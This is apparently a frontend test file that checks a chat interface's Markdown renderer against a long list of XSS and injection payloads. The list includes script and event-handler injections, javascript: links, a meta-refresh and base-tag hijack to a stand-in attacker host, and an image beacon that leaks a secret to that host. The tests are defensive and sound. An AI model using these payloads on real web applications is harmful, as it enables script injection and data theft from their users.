import { fireEvent, render, screen } from "@testing-library/react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  '<math><mtext><style><img src=x onerror="alert(1)"></style></mtext></math>',
  "<style>*{background:url(https://evil.example)}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><form action="/api/v1/auth/logout"><button>x</button></form>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png?leak=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x][i]\n\n[i]: https://evil.example/pixel.png",
  "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\ncode\n```',
  "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\nclick A href \"javascript:alert(1)\"\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>a</script> | [x](javascript:b) |\n|---|---|\n| <img src=x onerror=c> | ![](https://evil.example/x) |",
  "- [ ] <input onfocus=alert(1) autofocus>\n- [x] done",
  "x[^1]\n\n[^1]: [y](javascript:alert(1))",
  '# <a name="x" onclick="alert(1)">t</a>',
  "https://example.org/<script>alert(1)</script>",
  '**<b onmouseover="alert(1)">bold</b>**',
  '<!-- --!> <img src=x onerror="alert(1)"> -->',
  "<![CDATA[<script>alert(1)</script>]]>",
  "$\\href{javascript:alert(1)}{x}$",
];

const FORBIDDEN =
  "script, iframe, object, embed, style, link, meta, base, form, math, img, video, audio, source, animate, button:not([type=button])";

/** Everything that the page must never make of a model's words. */
function faults(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll(FORBIDDEN)) found.push(`<${element.localName}>`);
  for (const element of root.querySelectorAll("*")) {
    const isOurIcon = element.closest("svg")?.getAttribute("viewBox") === "0 0 20 20";
    if (element.closest("svg") && !isOurIcon) found.push("<svg>");
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || name === "srcdoc" || name === "srcset" || name === "src") {
        found.push(`${name}=${value}`);
      }
      if (/^(?:href|action|formaction|xlink:href)$/.test(name) && !/^(?:https?:\/\/|mailto:|#)/.test(value)) {
        found.push(`${name}=${value}`);
      }
      if (name === "style" && !/^text-align: ?\w+;?$/.test(value)) found.push(`style=${value}`);
    }
  }
  return found;
}

function check(text: string, growing: boolean): string[] {
  const holder = document.createElement("div");
  holder.innerHTML = renderToStaticMarkup(<Markdown text={text} growing={growing} />);
  return faults(holder);
}

describe("hostile Markdown", () => {
  it("would be noticed", () => {
    const holder = document.createElement("div");
    holder.innerHTML = '<a href="javascript:1">x</a><img src="x" onerror="1"><svg></svg>';
    expect(faults(holder)).toEqual(["<img>", "href=javascript:1", "src=x", "onerror=1", "<svg>"]);
  });

  it.each(HOSTILE)("is harmless at every length: %s", (payload) => {
    for (const text of [payload, `Text before ${payload} and after`, `> - ${payload}`]) {
      expect(check(text, false), text).toEqual([]);
      for (let end = 1; end <= text.length; end += 1) {
        expect(check(text.slice(0, end), true), text.slice(0, end)).toEqual([]);
      }
    }
  });

  it("does not take long to refuse", () => {
    const bombs = [
      "[".repeat(4000),
      "*a ".repeat(3000),
      "> ".repeat(500),
      "`".repeat(4001),
      "![".repeat(2000),
    ];
    const start = performance.now();
    for (const bomb of bombs) {
      check(bomb, true);
      check(bomb, false);
    }
    expect(performance.now() - start).toBeLessThan(8_000);
  });
});

describe("what an answer may contain", () => {
  it("opens links elsewhere, without telling where from", () => {
    render(<Markdown text="[docs](https://example.org/a)" />);
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("href")).toBe("https://example.org/a");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it("shows the whole address of a remote image and does not fetch it", () => {
    const url = "https://images.example.org/a/very/long/path.png?with=query&secret=1";
    const { container } = render(<Markdown text={`![A cat](${url})`} />);
    expect(container.querySelector("img, iframe")).toBeNull();
    const button = screen.getByRole("button", { name: /Load image: A cat/ });
    expect(button.textContent).toContain(url);
  });

  it("loads a remote image on a click, in the frame that may", () => {
    const url = "https://images.example.org/cat.png";
    render(<Markdown text={`![A cat](${url})`} />);
    fireEvent.click(screen.getByRole("button", { name: /Load image: A cat/ }));
    expect(screen.getByTitle("A cat").getAttribute("src")).toBe("/remote-image.html");
  });

  it("shows raw HTML as the text it is", () => {
    const { container } = render(
      <Markdown text={"Use <b>bold</b> here\n\n<div>\nblock\n</div>\n\n| a<br>b |\n|--|"} />,
    );
    expect(container.querySelector("p")?.textContent).toBe("Use <b>bold</b> here");
    expect(container.textContent).toContain("<div>\nblock\n</div>");
    expect(container.querySelector("th br")).not.toBeNull();
  });

  it("has tables, task lists and code with its language", () => {
    const text = "| a | b |\n|--|--|\n| 1 | 2 |\n\n- [x] done\n\n```rust\nfn main() {}\n```";
    render(<Markdown text={text} />);
    expect(screen.getAllByRole("cell").map((cell) => cell.textContent)).toEqual(["1", "2"]);
    expect((screen.getByRole("checkbox") as HTMLInputElement).disabled).toBe(true);
    expect(screen.getByText("rust")).toBeDefined();
    expect(screen.getByText("fn main() {}")).toBeDefined();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeDefined();
  });

  it("completes what is half written only while it is being written", () => {
    const { container, rerender } = render(<Markdown text="This is **bo" growing />);
    expect(container.querySelector("strong")?.textContent).toBe("bo");
    rerender(<Markdown text="This is **bo" />);
    expect(container.querySelector("strong")).toBeNull();
  });

  it("leaves finished blocks alone while the last one grows", () => {
    const { container, rerender } = render(<Markdown text={"First.\n\nSec"} growing />);
    const first = container.querySelector("p");
    rerender(<Markdown text={"First.\n\nSecond.\n\nThird"} growing />);
    expect(container.querySelector("p")).toBe(first);
    expect(container.textContent?.replaceAll("\n", "")).toBe("First.Second.Third");
  });
});
